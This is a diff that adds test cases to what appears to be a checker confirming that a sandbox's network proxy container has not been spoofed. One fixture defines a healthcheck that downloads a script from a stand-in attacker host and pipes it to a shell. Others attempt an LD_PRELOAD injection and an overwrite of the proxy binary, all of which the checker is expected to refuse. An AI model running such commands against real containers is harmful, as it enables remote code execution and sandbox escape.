@@ -459,6 +459,26 @@ describe(`${RULE}: only the proxy wears the proxy's label`, () => {
     expect(check([spoof({ command: ["sh", "-c", "true"] })])[0]).toContain(
       "is not the proxy (it replaces the image's entry point (command[0]))",
     );
+    // The engine runs a healthcheck command inside the container, with the proxy's open egress: refused; a disabled
+    // one (NONE, the image has none and the toolkit sets none) passes. Only the variable the image reads may be set.
+    expect(
+      check([
+        spoof({ healthcheck: { tests: ["CMD-SHELL", "wget -qO- http://attacker.example/x | sh"] } }),
+      ])[0],
+    ).toContain('is not the proxy (container "proxy" runs a command inside it');
+    expect(check([spoof({ healthcheck: { tests: ["NONE"] } })])).toEqual([]);
+    expect(
+      check([spoof({ uploads: [{ file: "/usr/local/bin/sandbox-proxy", content: "#!/bin/sh" }] })])[0],
+    ).toContain("has uploads, which runs a command or puts files inside it");
+    const env = (f: StackFixture) =>
+      ((f.props as { envs: string[] }).envs ?? []).concat("LD_PRELOAD=/tmp/x.so");
+    const base = spoof({});
+    expect(check([spoof({ envs: env(base) })])[0]).toContain(
+      'sets "LD_PRELOAD"; the proxy\'s image reads only SANDBOX_PROXY_CONFIG',
+    );
+    expect(
+      check([spoof({ mounts: [{ type: "bind", source: "/srv/x", target: "/usr/lib/x" }] })])[0],
+    ).toContain("the proxy mounts only its configuration");
     // One in proxy mode on the bridge is also judged as the task it is.
     expect(
       check([spoof({ image: "busybox:1.36", envs: ["HTTPS_PROXY=http://p:3128"], networkMode: "bridge" })]),
